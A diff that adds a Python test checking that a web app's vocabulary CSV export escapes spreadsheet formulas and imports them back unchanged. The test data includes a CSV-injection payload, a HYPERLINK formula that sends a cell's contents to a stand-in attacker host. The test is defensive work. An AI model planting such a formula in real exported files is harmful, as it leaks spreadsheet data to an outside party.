@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 from collections.abc import Callable, Iterator
 
 import httpx
@@ -84,6 +85,18 @@ def test_an_export_can_be_imported(visitor: httpx.Client, engine: Engine) -> Non
     assert send(visitor, "import", document="- term: Loki\n  variants: [low key]\n").status_code == 303
     assert vocabulary.terms(engine)[1] == Term("Loki", ("low key",), "", 1.0)
     assert "line 2" in send(visitor, "import", document="term,weight\nTempo,heavy\n").text
+
+
+def test_an_exported_term_is_no_formula_and_is_imported_as_it_was(visitor: httpx.Client, engine: Engine) -> None:
+    formula = '=HYPERLINK("https://attacker.example/?"&A2)'
+    terms = tuple(Term(text, (text,), text) for text in (formula, "'=1", "'quoted'", "+1", "-able", "@name"))
+    vocabulary.put(engine, terms)
+    exported = visitor.get("/api/vocabulary.csv").text
+    cells = [cell for row in csv.reader(exported.splitlines()) for cell in row]
+    assert [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))] == []
+    vocabulary.replace(engine, ())
+    assert send(visitor, "import", document=exported).status_code == 303
+    assert set(vocabulary.terms(engine)) == set(terms)
 
 
 def test_a_suggestion_is_shown_with_its_moments_and_taken(visitor: httpx.Client, engine: Engine) -> None:
